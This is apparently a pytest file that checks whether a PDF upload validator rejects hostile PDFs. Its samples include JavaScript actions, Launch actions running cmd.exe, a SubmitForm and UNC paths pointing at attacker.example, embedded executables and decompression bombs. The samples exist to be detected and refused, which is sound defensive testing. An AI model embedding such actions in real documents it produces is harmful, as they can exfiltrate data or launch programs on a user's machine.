"""Hostile PDFs (issue 16, item 4) and the slow PDF (item 2), each built here.

The slow PDF's tests assert what stopped the child (its parsing budget, its CPU limit), never a
wall-clock time (house style 16: timings live in bench/upload_validation.py)."""

from __future__ import annotations

import resource
from pathlib import Path

import pytest

from banzu.uploads import pdfcheck
from banzu.uploads.validation import (
    REJECTION_MESSAGES,
    FileKind,
    Limits,
    UploadRejected,
    failure_code,
    parse_check,
    validate_upload,
)
from tests.uploads import hostile, samples

pytestmark = pytest.mark.real_parse

LIMITS = Limits(max_bytes=50 * 1024 * 1024)
JS = b"<< /S /JavaScript /JS (app.alert\\('x'\\)) >>"


def rejected_code(path: Path, limits: Limits = LIMITS) -> str:
    with pytest.raises(UploadRejected) as excinfo:
        validate_upload(path, path.name, limits=limits)
    assert excinfo.value.message == REJECTION_MESSAGES[excinfo.value.code]
    return excinfo.value.code


def accepted(path: Path, limits: Limits = LIMITS) -> FileKind:
    return validate_upload(path, path.name, limits=limits).kind


def test_pdf_plain_accepted(tmp_path: Path) -> None:
    assert accepted(hostile.one_page_pdf(tmp_path / "plain.pdf")) == FileKind.PDF


# --- scripts and actions -------------------------------------------------------------------------


def test_pdf_open_action_javascript_active_content(tmp_path: Path) -> None:
    path = hostile.one_page_pdf(tmp_path / "open.pdf", catalog=b"/OpenAction " + JS)
    assert rejected_code(path) == "active_content"


def test_pdf_open_action_javascript_indirect_active_content(tmp_path: Path) -> None:
    path = hostile.one_page_pdf(tmp_path / "open6.pdf", catalog=b"/OpenAction 6 0 R", extra=(JS,))
    assert rejected_code(path) == "active_content"


def test_pdf_page_additional_action_javascript_active_content(tmp_path: Path) -> None:
    path = hostile.one_page_pdf(tmp_path / "aa.pdf", page=b"/AA << /O " + JS + b" >>")
    assert rejected_code(path) == "active_content"


def test_pdf_javascript_name_tree_active_content(tmp_path: Path) -> None:
    names = b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
    path = hostile.one_page_pdf(tmp_path / "names.pdf", catalog=names, extra=(JS,))
    assert rejected_code(path) == "active_content"


def test_pdf_javascript_in_a_stream_active_content(tmp_path: Path) -> None:
    action = b"<< /S /JavaScript /JS 7 0 R >>"
    path = hostile.one_page_pdf(
        tmp_path / "jsstream.pdf",
        catalog=b"/OpenAction 6 0 R",
        extra=(action, hostile.stream(b"app.launchURL('http://x')")),
    )
    assert rejected_code(path) == "active_content"


def test_pdf_hex_escaped_javascript_name_active_content(tmp_path: Path) -> None:
    # /J#61vaScript is /JavaScript to every reader.
    action = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    path = hostile.one_page_pdf(tmp_path / "hex.pdf", catalog=b"/OpenAction " + action)
    assert rejected_code(path) == "active_content"


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /S /SubmitForm /F << /FS /URL /F (http://attacker.example/) >> >>",
        b"<< /S /ImportData /F (data.fdf) >>",
        b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        b"<< /S /GoToE /T << /R /C /N (x) >> >>",
        b"<< /S /URI /URI (file:///C:/Windows/system32/calc.exe) >>",
        b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share) >>",
    ],
)
def test_pdf_dangerous_action_active_content(tmp_path: Path, action: bytes) -> None:
    path = hostile.one_page_pdf(tmp_path / "action.pdf", catalog=b"/OpenAction " + action)
    assert rejected_code(path) == "active_content"


def test_pdf_web_link_and_bookmark_accepted(tmp_path: Path) -> None:
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] "
        b"/A << /S /URI /URI (https://www.example.org/qc) >> >>"
    )
    outline = b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>"
    item = b"<< /Title (Chapter) /Parent 7 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>"
    path = hostile.one_page_pdf(
        tmp_path / "links.pdf",
        catalog=b"/OpenAction [3 0 R /Fit] /Outlines 7 0 R",
        page=b"/Annots [6 0 R]",
        extra=(link, outline, item),
    )
    assert accepted(path) == FileKind.PDF


def test_pdf_xfa_form_active_content(tmp_path: Path) -> None:
    xfa = hostile.stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    path = hostile.one_page_pdf(
        tmp_path / "xfa.pdf", catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra=(xfa,)
    )
    assert rejected_code(path) == "active_content"


@pytest.mark.parametrize("subtype", [b"/RichMedia", b"/Screen", b"/Movie", b"/Sound", b"/3D"])
def test_pdf_multimedia_annotation_active_content(tmp_path: Path, subtype: bytes) -> None:
    annot = b"<< /Type /Annot /Subtype " + subtype + b" /Rect [0 0 10 10] >>"
    path = hostile.one_page_pdf(tmp_path / "media.pdf", page=b"/Annots [6 0 R]", extra=(annot,))
    assert rejected_code(path) == "active_content"


# --- embedded files -------------------------------------------------------------------------


def test_pdf_embedded_executable_embedded(tmp_path: Path) -> None:
    exe = hostile.stream(hostile.pe_executable(), b"/Type /EmbeddedFile")
    filespec = b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>"
    names = b"/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>"
    path = hostile.one_page_pdf(tmp_path / "exe.pdf", catalog=names, extra=(filespec, exe))
    assert rejected_code(path) == "embedded"


def test_pdf_file_attachment_annotation_embedded(tmp_path: Path) -> None:
    annot = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 7 0 R >>"
    filespec = b"<< /Type /Filespec /F (a.docm) >>"
    path = hostile.one_page_pdf(
        tmp_path / "attach.pdf", page=b"/Annots [6 0 R]", extra=(annot, filespec)
    )
    assert rejected_code(path) == "embedded"


# --- decompression bombs --------------------------------------------------------------------------


def test_pdf_stream_of_two_gib_zip_bomb(tmp_path: Path) -> None:
    bomb = hostile.zeros_zlib_stream(2 * hostile.GiB)
    path = hostile.one_page_pdf(
        tmp_path / "bomb.pdf", resources=b"/XObject << /Im0 6 0 R >>", extra=(bomb,)
    )
    assert path.stat().st_size < 3 * samples.MiB
    before = resource.getrlimit(resource.RLIMIT_AS)
    # Refused inside the child's 256 MiB: the stream is inflated in counted chunks, never held.
    limits = Limits(max_bytes=LIMITS.max_bytes, parse_memory_bytes=256 * samples.MiB)
    failure = parse_check(FileKind.PDF, path, limits)
    assert failure == f"zip_bomb: a stream inflates to more than {pdfcheck.MAX_STREAM_BYTES}"
    assert rejected_code(path, limits) == "zip_bomb"
    assert resource.getrlimit(resource.RLIMIT_AS) == before


def test_pdf_streams_together_too_large_zip_bomb(tmp_path: Path) -> None:
    # Seventeen streams of 128 MiB each: every one within the per-stream bound, together over
    # 2 GiB.
    bombs = tuple(hostile.zeros_zlib_stream(128 * samples.MiB) for _ in range(17))
    xobjects = b" ".join(b"/Im%d %d 0 R" % (i, 6 + i) for i in range(17))
    path = hostile.one_page_pdf(
        tmp_path / "bombs.pdf",
        resources=b"/XObject << " + xobjects + b" >>",
        extra=bombs,
    )
    # About 1.5 s of inflating; room to spare so that a slow machine still reaches the count.
    failure = parse_check(FileKind.PDF, path, Limits(max_bytes=LIMITS.max_bytes, parse_cpu_s=10))
    assert failure == f"zip_bomb: streams inflate to more than {pdfcheck.MAX_TOTAL_BYTES}"


# --- the slow PDF (item 2) ------------------------------------------------------------------------


def test_slow_pdf_shared_heavy_stream_too_complex(tmp_path: Path) -> None:
    # The file: 200 pages drawing one content stream of 700,000 tokens, a few dozen KB.
    # It used to cost a worker its 20 s CPU limit; its first page now exceeds the parsing
    # budget of one content stream and the child stops there.
    path = hostile.slow_pdf(tmp_path / "slow.pdf")
    assert path.stat().st_size < 64 * 1024
    failure = parse_check(FileKind.PDF, path, LIMITS)
    assert failure == (
        "too_complex: LimitReachedError: Reached maximum number of tokens per stream."
    )
    assert rejected_code(path) == "too_complex"


def test_slow_pdf_shared_lighter_stream_read_once_accepted(tmp_path: Path) -> None:
    # 200 pages sharing a stream of 140,000 tokens (about half a second of text extraction):
    # reading every page would need some 80 s of CPU, yet it passes under a 3 s CPU limit
    # because a content stream shared by many pages is read once.
    path = hostile.slow_pdf(tmp_path / "shared.pdf", reps=10_000)
    limits = Limits(max_bytes=LIMITS.max_bytes, parse_cpu_s=3)
    assert accepted(path, limits) == FileKind.PDF


def test_slow_pdf_distinct_heavy_pages_stop_at_cpu_limit(tmp_path: Path) -> None:
    # Twenty pages, each its own stream just under the parsing budget: no single page is too
    # much, the child's CPU limit ends it.
    path = hostile.slow_pdf(tmp_path / "distinct.pdf", pages=20, reps=20_000, distinct=True)
    limits = Limits(max_bytes=LIMITS.max_bytes, parse_cpu_s=2)
    failure = parse_check(FileKind.PDF, path, limits)
    assert failure in {
        "too_complex: stopped at the CPU limit of 2s (signal 24)",
        "too_complex: stopped at the CPU limit of 2s (signal 9)",
    }
    assert failure_code(failure) == "too_complex"


def test_slow_pdf_limits_are_seconds_not_twenty() -> None:
    default = Limits(max_bytes=1)
    assert (default.parse_cpu_s, default.parse_timeout_s) == (4, 15)
    assert (pdfcheck.TEXT_PAGES, pdfcheck.STREAM_WORK) == (20, 300_000)


def test_pdf_too_many_pages_too_complex(tmp_path: Path) -> None:
    path = samples.make_pdf(tmp_path / "many.pdf", pages=pdfcheck.MAX_PAGES + 1)
    assert rejected_code(path) == "too_complex"
